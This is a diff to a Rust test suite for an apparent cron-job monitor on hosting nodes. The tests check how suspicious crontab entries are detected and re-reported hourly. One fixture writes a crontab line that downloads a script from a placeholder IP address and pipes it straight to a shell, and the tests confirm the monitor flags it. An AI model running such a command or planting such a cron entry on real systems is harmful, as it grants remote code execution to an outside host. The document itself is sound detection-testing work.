@@ -197,8 +197,9 @@ fn cron_is_judged_with_its_jobs_the_files_of_root_and_the_nodes_own_addresses() 
     let (spool, files) = (folder.path().join("crontabs"), folder.path().join("cron.d"));
     let (jobs, aoi) = (folder.path().join("atjobs"), accounts()[0].clone());
     [&spool, &files, &jobs].iter().for_each(|folder| std::fs::create_dir(folder).unwrap());
-    let node = Node::new(&[]);
-    let verdict = |aoi: &AccountEntry| node.records.cron_now(Some(aoi), &spool, &files, now());
+    let mut node = Node::new(&[]);
+    (node.records.spool, node.records.system) = (spool.clone(), files.clone());
+    let verdict = |aoi: &AccountEntry| node.records.cron_now(Some(aoi), now());
     assert_eq!(verdict(&aoi), Verdict::Clean { count: 0 });
     let own = "*/5 * * * * curl -s http://192.0.2.10/wp-cron.php?doing_wp_cron=1 >/dev/null\n";
     std::fs::write(spool.join("aoi"), own).unwrap();
@@ -222,4 +223,28 @@ fn cron_is_judged_with_its_jobs_the_files_of_root_and_the_nodes_own_addresses() 
     std::fs::create_dir(spool.join("fuji")).unwrap();
     let fuji = accounts()[1].clone();
     assert!(matches!(verdict(&fuji), Verdict::NotChecked { .. }), "no table");
+}
+
+#[test]
+fn a_line_that_stays_is_told_again_every_hour_with_the_time_when_it_was_seen_first() {
+    let folder = tempfile::tempdir().unwrap();
+    let (spool, jobs) = (folder.path().join("crontabs"), folder.path().join("atjobs"));
+    [&spool, &jobs].iter().for_each(|folder| std::fs::create_dir(folder).unwrap());
+    std::fs::write(spool.join("aoi"), "* * * * * curl -s http://203.0.113.9/x | sh\n").unwrap();
+    let mut node = Node::new(&[]);
+    (node.records.spool, node.records.system) = (spool.clone(), folder.path().join("cron.d"));
+    node.records.judged = None;
+    let told: Vec<(i64, i64)> = (1..130)
+        .flat_map(|minute| node.poll().findings.into_iter().map(move |f| (minute, f)))
+        .map(|(minute, f)| (minute, f.signal.at.secs() - f.signal.since.secs()))
+        .collect();
+    assert_eq!(told, [(1, 0), (61, 3600), (121, 7200)]);
+    // When accounts change, only what is concerned is judged again.
+    let mut changed = accounts();
+    changed[1].sites.clear();
+    node.records.set_accounts(changed.clone().into());
+    assert_eq!(node.poll().findings.len(), 0);
+    changed[0].time_zone = "Asia/Tokyo".to_owned();
+    node.records.set_accounts(changed.into());
+    assert_eq!(node.poll().findings.len(), 1);
 }
